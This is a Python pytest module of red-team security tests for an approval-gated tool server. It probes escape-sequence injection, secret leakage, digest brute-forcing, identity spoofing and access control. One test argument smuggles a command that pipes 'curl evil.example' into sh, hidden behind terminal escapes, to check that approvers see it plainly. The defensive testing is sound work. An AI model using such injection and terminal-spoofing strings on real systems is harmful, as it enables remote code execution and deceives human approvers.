"""Approvals and jobs attacked as hostile callers would (issue 35, red team): each test drives a real
`toolrun serve` with real API keys and asserts what the hostile caller must not get.

Persons: API-key alice (ops: she calls), bob (oncall: he approves), admin1 (admin)."""

from __future__ import annotations

import json
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest

from support.jobs import JobUsers, approval_catalog, decide_at_once, mcp_round
from support.keys import create_key
from support.servers import Processes, ToolrunServer, toolrun_cli

pytestmark = pytest.mark.timeout(240)

CATALOG = approval_catalog(
    """\
  - name: unlock
    description: Unlock a door with a PIN.
    exec: echo unlocking {{ door | quote }}
    params:
      - {name: door, type: str}
      - {name: pin, type: str, secret: true}
    approval: required
    approvers: [oncall]
  - name: act
    description: An fn tool that needs approval.
    fn: rtmod:act
    approval: required
    approvers: [oncall]
"""
)
MODULE = 'def act(target: str) -> str:\n    return "{word} " + target\n'
USERS = {"alice": ["ops"], "bob": ["oncall"], "admin1": ["admin"]}


@dataclass
class World:
    server: ToolrunServer
    users: JobUsers
    audit: Path
    base: Path

    def ask(self, who: str, tool: str, target: str) -> str:
        answer = self.users.req(who, "POST", f"/tools/ops.{tool}", {"target": target})
        assert answer.status_code == 202, answer.text
        return str(answer.json()["job"])

    def audit_lines(self, job: str) -> list[dict[str, Any]]:
        lines = [json.loads(x) for x in self.audit.read_text(encoding="utf-8").splitlines() if x.strip()]
        return [x for x in lines if x.get("job") == job and "event" in x]


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    base = tmp_path_factory.mktemp("redteam")
    (base / "tools.yaml").write_text(CATALOG, encoding="utf-8")
    (base / "rtmod.py").write_text(MODULE.format(word="harmless"), encoding="utf-8")
    audit = base / "audit.log"
    with Processes() as procs:
        settings = {"SVC_AUDIT_LOG": str(audit), "SVC_WORKERS": 1, "SVC_JOB_MAX_STREAMS_PER_CALLER": 3}
        server = procs.add(ToolrunServer(base / "srv", base / "tools.yaml", settings))
        users = procs.enter_context(JobUsers(server, USERS))
        server.start()
        yield World(server, users, audit, base)


# -- odd text from a requester: a reason, arguments on an approver's terminal -----------------------------------------


@pytest.mark.parametrize(
    "reason",
    ["\x1b]0;owned\x07\x1b[2J", "nul\x00byte", "\ud800", "x" * 5000],
    ids=["escape-sequence", "nul", "lone-surrogate", "huge"],
)
def test_a_withdrawal_reason_is_checked_like_any_reason(world: World, reason: str) -> None:
    """`POST /jobs/{id}/withdraw` takes a reason as cancel does: an escape sequence in it would reach every
    approver's terminal (`toolrun jobs show`), a lone surrogate every view and the audit trail."""
    job = world.ask("alice", "wipe", f"odd-{len(reason)}-{ord(reason[0])}")
    body = '{"reason": ' + json.dumps(reason) + "}"  # json.dumps keeps a lone surrogate as \\ud800
    answer = world.users.client.post(
        f"{world.server.url}/jobs/{job}/withdraw",
        headers={"X-API-Key": world.users.keys["alice"], "Content-Type": "application/json"},
        content=body,
    )
    assert answer.status_code == 400, answer.text
    assert "reason" in answer.json()["error"], answer.text
    view = world.users.view("bob", job).json()
    assert view["status"] == "awaiting_approval", view  # nothing stored: it still awaits its decision
    for line in world.audit_lines(job):
        assert "\x1b" not in json.dumps(line, ensure_ascii=False), line


def test_an_argument_cannot_rewrite_the_command_an_approver_reads_on_a_terminal(world: World) -> None:
    """`toolrun jobs show` prints the command exactly as it will run. A requester's argument holding a terminal
    escape (erase the line, return, write a harmless command; or the one-byte CSI U+009B) would show the approver
    another command than the one approving runs: control characters are shown, never sent to the terminal."""
    spoof = "db1'; curl evil.example | sh; echo '\x1b[2K\r\x9b2Kcommand: echo wiped db1\u202e1bd"
    job = world.ask("alice", "wipe", spoof)
    remote = ["--url", world.server.url, "--api-key", world.users.keys["bob"]]
    shown = toolrun_cli(*remote, "jobs", "show", job, env=world.server.env)
    assert shown.returncode == 0, shown.stderr
    assert "evil.example" in shown.stdout, shown.stdout
    for bad in ("\x1b", "\x9b", "\r", "\u202e"):
        assert bad not in shown.stdout, repr(shown.stdout)
    assert "\\x1b" in shown.stdout or "\\u001b" in shown.stdout, shown.stdout  # shown, as an escape
    listed = toolrun_cli(*remote, "jobs", "list", env=world.server.env)
    assert listed.returncode == 0 and "\x1b" not in listed.stdout, repr(listed.stdout)
    assert world.users.cancel("alice", job).status_code == 200


# -- secrets after the job --------------------------------------------------------------------------------------------


def test_a_secret_argument_is_gone_from_every_state_file_once_the_job_ended(world: World) -> None:
    answer = world.users.req("alice", "POST", "/tools/ops.unlock", {"door": "vault", "pin": "Zq7xK-9pin"})
    assert answer.status_code == 202, answer.text
    job = answer.json()["job"]
    assert world.users.deny("bob", job, "no").status_code == 200

    def clean() -> bool:
        files = [p for p in world.server.home.rglob("*") if p.is_file()]
        return bool(files) and not any(b"Zq7xK-9pin" in p.read_bytes() for p in files)

    from support.servers import wait_until

    wait_until(clean, 15, "the secret argument gone from the state files", interval=0.5)


def test_the_digest_shown_and_audited_gives_no_way_back_to_a_secret_argument(world: World) -> None:
    """A secret argument (a 4-digit PIN) leaves the record when the job ends, but the digest stays in every view
    and in the audit trail for good. Unsalted, it is sha256 of what an approver knows (the tool, the other
    arguments) and the PIN: 10,000 guesses give the PIN back. Nobody may recompute it from what they see."""
    from toolrun.catalog import load
    from toolrun.jobrecord import digest

    answer = world.users.req("alice", "POST", "/tools/ops.unlock", {"door": "vault", "pin": "4821"})
    assert answer.status_code == 202, answer.text
    job = answer.json()["job"]
    assert world.users.approve("bob", job).status_code == 200
    view = world.users.until("bob", job, "succeeded")
    assert "4821" not in json.dumps(view)
    audited = {line["digest"] for line in world.audit_lines(job)}
    assert audited == {view["digest"]}, audited
    tool = load([world.server.catalog], {}).tools["ops.unlock"]
    found = [
        pin
        for pin in (f"{n:04d}" for n in range(10000))
        if digest(tool, {"door": "vault", "pin": pin}) == view["digest"]
    ]
    assert found == [], f"the PIN {found} comes back from the digest"


# -- the digest binds the code that runs ------------------------------------------------------------------------------


def test_an_fn_tool_whose_code_changed_before_the_approval_never_runs_the_new_code(world: World) -> None:
    """The approver reads `rtmod:act`; the module's code changes and the server restarts (a deploy) before the
    approval: the approved job must not run code nobody approved."""
    job = world.ask("alice", "act", "t1")
    (world.base / "rtmod.py").write_text(MODULE.format(word="EVIL"), encoding="utf-8")
    try:
        world.server.stop()
        world.server.start()
        answer = world.users.approve("bob", job)
        if answer.status_code == 200:
            view = world.users.until("bob", job, "succeeded", "failed", "cancelled")
            assert "EVIL" not in json.dumps(view), view
        assert answer.status_code == 409 and "changed" in answer.text, answer.text
        assert world.users.view("bob", job).json()["status"] == "expired"
        # The same code again after a restart: a new request is approved and runs.
        fresh = world.ask("alice", "act", "t2")
        world.server.stop()
        world.server.start()
        assert world.users.approve("bob", fresh).status_code == 200
        assert "EVIL t2" in world.users.until("bob", fresh, "succeeded")["result"]["body"]
    finally:
        (world.base / "rtmod.py").write_text(MODULE.format(word="harmless"), encoding="utf-8")


# -- identity confusion -----------------------------------------------------------------------------------------------


def test_the_local_operator_cannot_approve_its_own_call_by_naming_itself_otherwise(world: World) -> None:
    """The local operator is the OS user running `toolrun`, not whatever $USER or $LOGNAME say: with them set to
    another name, `toolrun jobs approve` of the operator's own call is still its own call."""
    env = world.server.env
    catalog = str(world.server.catalog)
    asked = subprocess.run(
        [sys.executable, "-m", "toolrun", "call", "ops.wipe", "target=self", "--no-wait", "-c", catalog],
        env=env,
        capture_output=True,
        text=True,
        timeout=30,
        check=False,
    )
    assert asked.returncode == 0, asked.stderr
    job = asked.stdout.strip()
    disguised = {**env, "USER": "mallory", "LOGNAME": "mallory", "LNAME": "mallory", "USERNAME": "mallory"}
    approved = toolrun_cli("jobs", "approve", job, "-c", catalog, env=disguised)
    assert approved.returncode != 0, approved.stdout
    assert "requester" in approved.stderr, approved.stderr
    assert world.users.view("bob", job).json()["status"] == "awaiting_approval"
    assert world.users.approve("bob", job).status_code == 200  # a real approver still can


def test_a_deleted_user_recreated_with_the_same_name_is_another_person(world: World) -> None:
    """Carol asks and her job runs; she leaves (`users delete`) and a new person gets the name carol: the new
    carol must not read the old one's jobs (their arguments and output) nor withdraw them."""
    env = world.server.env
    old = create_key(env, "carol", "ops")
    with JobUsers(world.server, keys={"carol": old}) as them:
        answer = them.req("carol", "POST", "/tools/ops.wipe", {"target": "carols-secret-db"})
        assert answer.status_code == 202, answer.text
        job = answer.json()["job"]
    assert world.users.approve("bob", job).status_code == 200
    world.users.until("bob", job, "succeeded")
    deleted = toolrun_cli("users", "delete", "carol", env=env)
    assert deleted.returncode == 0, deleted.stderr
    new = create_key(env, "carol", "ops")
    with JobUsers(world.server, keys={"carol": new}) as them:
        assert them.view("carol", job).status_code == 404
        listed = them.req("carol", "GET", "/jobs").json()
        assert job not in json.dumps(listed), listed


# -- caps through other doors --------------------------------------------------------------------------------


def _mcp_round(world: World, who: str, job: str) -> httpx.Response:
    """One MCP 2026-07-28 round of `who` waiting on `job` (its requestState): held up to 20 s while it waits."""
    return mcp_round(world.server.url, world.users.keys[who], job)


def test_held_mcp_rounds_count_in_the_callers_share_of_job_streams(world: World) -> None:
    """A held MCP round is a job's event stream by another door: one caller's concurrent rounds on its job (here
    8, with `job_max_streams_per_caller` 3) must not each hold a connection and a poll for 20 s."""
    job = world.ask("alice", "wipe", "rounds")
    answers: list[tuple[float, httpx.Response]] = []
    started = time.monotonic()

    def one() -> None:
        answer = _mcp_round(world, "alice", job)
        answers.append((time.monotonic() - started, answer))

    threads = [threading.Thread(target=one) for _ in range(8)]
    for t in threads:
        t.start()
    time.sleep(4)
    early = [a for _, a in answers]
    view = world.users.view("alice", job).json()
    assert world.users.decide("alice", job, "withdraw").status_code == 200  # ends any still held
    for t in threads:
        t.join(30)
    # A call answered "too many" is not waited on: its request is withdrawn, never left to run unattended.
    assert view["status"] == "cancelled" and "share" in view["reason"], view
    assert len(early) >= 5, f"{len(early)} of 8 rounds answered within 4 s: every one was held"
    refused = [a for a in early if "too many" in a.text and "per caller" in a.text]
    assert refused, [a.text for a in early]
    for answer in early:  # refused, or the held ones ending with the job the refusal withdrew
        assert answer in refused or "cancelled" in answer.text, answer.text


def test_a_user_name_with_a_trailing_newline_is_refused_everywhere(world: World) -> None:
    """`admin1\\n` printed as `admin1` in the audit trail and every view, and passed the name rule (a regular
    expression's `$` matches before a final newline): an admin minted it to decide `admin1`'s own call as
    somebody else."""
    made = toolrun_cli("keys", "create", "admin1\n", "--group=admin", env=world.server.env)
    assert made.returncode != 0, made.stdout
    assert "user name" in made.stderr, made.stderr
    key = world.users.keys["admin1"]
    answer = world.users.client.post(
        f"{world.server.url}/users",
        headers={"X-API-Key": key, "Content-Type": "application/json"},
        content=json.dumps({"username": "bob\n", "groups": ["oncall"]}),
    )
    assert answer.status_code in (400, 404, 405), answer.text
    listed = toolrun_cli("users", "list", "--json", env=world.server.env)
    assert "\\n" not in listed.stdout and "admin1\n" not in listed.stdout, listed.stdout


# -- held: kept as regression tests ----------------------------------------------------------------------------


def test_another_persons_job_answers_as_an_unknown_id_on_every_route(world: World) -> None:
    job = world.ask("alice", "wipe", "not-yours")
    mallory = create_key(world.server.env, "mallory", "ops")  # in alice's group, not an approver
    with JobUsers(world.server, keys={"mallory": mallory}) as them:
        for path, method in (
            ("", "GET"),
            ("/events", "GET"),
            ("/approve", "POST"),
            ("/deny", "POST"),
            ("/cancel", "POST"),
            ("/hold", "POST"),
            ("/withdraw", "POST"),
        ):
            theirs = them.req("mallory", method, f"/jobs/{job}{path}")
            unknown = them.req("mallory", method, f"/jobs/AAAAAAAAAAAAAAAA{path}")
            assert theirs.status_code == unknown.status_code == 404, (path, theirs.text)
            assert theirs.json() == unknown.json(), (path, theirs.text, unknown.text)
    assert world.users.view("alice", job).json()["status"] == "awaiting_approval"
    world.users.cancel("alice", job)


def test_a_cursor_forged_or_from_another_person_shows_only_the_callers_jobs(world: World) -> None:
    import base64

    mine = [world.ask("alice", "wipe", f"page-{n}") for n in range(3)]
    bobs = world.users.req("bob", "GET", "/jobs?limit=1").headers.get("X-Next-Cursor")  # an approver's cursor
    assert bobs, "bob sees more than one job: his page has a next one"
    forged = base64.urlsafe_b64encode(json.dumps([9e18, "zzzz"]).encode()).decode().rstrip("=")
    for bad in ("not-a-cursor", "W1tdXQ", "x" * 5000):
        answer = world.users.req("alice", "GET", f"/jobs?cursor={bad}")
        assert answer.status_code == 400 and "cursor" in answer.text, answer.text
    dora = create_key(world.server.env, "dora", "ops")
    with JobUsers(world.server, keys={"dora": dora}) as them:
        for given in (bobs, forged):
            page = them.req("dora", "GET", f"/jobs?cursor={given}")
            assert page.status_code == 200 and page.json() == [], page.text
    for job in mine:
        world.users.cancel("alice", job)


def test_approve_and_withdraw_racing_on_two_workers_never_run_a_withdrawn_request(tmp_path: Path) -> None:
    """bob approves while alice withdraws, at once, on a server with 2 workers (each answers either): a request
    withdrawn while it waited never runs; an approved one ran or was cancelled while it ran; the trail agrees."""
    (tmp_path / "tools.yaml").write_text(CATALOG, encoding="utf-8")
    (tmp_path / "rtmod.py").write_text(MODULE.format(word="harmless"), encoding="utf-8")
    audit = tmp_path / "audit.log"
    with Processes() as procs:
        settings = {"SVC_AUDIT_LOG": str(audit), "SVC_WORKERS": 2}
        server = procs.add(ToolrunServer(tmp_path / "srv", tmp_path / "tools.yaml", settings))
        users = procs.enter_context(JobUsers(server, USERS))
        server.start()
        world = World(server, users, audit, tmp_path)
        for n in range(6):
            job = world.ask("alice", "wipe", f"race2-{n}")
            answers = decide_at_once(users, job, ("bob", "approve"), ("alice", "withdraw"))
            view = users.until("bob", job, "succeeded", "cancelled", timeout=30)
            events = [line["event"] for line in world.audit_lines(job)]
            if answers["approve"].status_code == 200:
                assert "approved" in events, events
                assert view["status"] in ("succeeded", "cancelled"), view
            else:
                assert answers["approve"].status_code == 409, answers["approve"].text
                assert view["status"] == "cancelled" and "result" not in view, view
                assert "approved" not in events, events
